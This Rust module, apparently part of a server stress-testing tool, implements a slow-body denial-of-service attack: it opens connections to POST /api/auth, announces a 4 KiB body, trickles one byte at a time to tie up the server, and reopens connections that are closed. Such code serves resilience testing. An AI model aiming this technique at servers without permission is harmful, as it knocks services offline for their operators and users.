//! `slow-body`: each connection starts `POST /api/auth` with a 4 KiB Content-Length and then
//! trickles one body byte per `trickle-interval`, reading whatever the server answers; a
//! connection the server ends is opened again.

use std::sync::Arc;

use tokio::net::TcpStream;

use super::conn::Attack;

/// The announced body: far more bytes than a trickle sends in any bounded phase.
const ANNOUNCED: usize = 4096;

pub(crate) async fn run(attack: &Arc<Attack>) {
    attack.each_repeating(connection).await;
}

async fn connection(attack: Arc<Attack>, i: usize) -> bool {
    let Some(mut stream) = attack.connect(i).await else {
        return false;
    };
    let head = attack.login_head(ANNOUNCED);
    attack.tally.request_started();
    if !attack.send(&mut stream, head.as_bytes()).await {
        return false;
    }
    trickle(&attack, &mut stream).await
}

/// One byte, then a wait of `trickle-interval` during which the connection is held (and
/// watched for the server's answer or close), until the end or the announced length. True when
/// it held to the end.
async fn trickle(attack: &Attack, stream: &mut TcpStream) -> bool {
    for _ in 0..ANNOUNCED {
        if !attack.send(stream, b" ").await {
            return false;
        }
        let waited = tokio::time::timeout(attack.config.trickle_interval, attack.hold(stream));
        if let Ok(held) = waited.await {
            return held; // the end, or the server closed
        }
    }
    attack.hold(stream).await
}
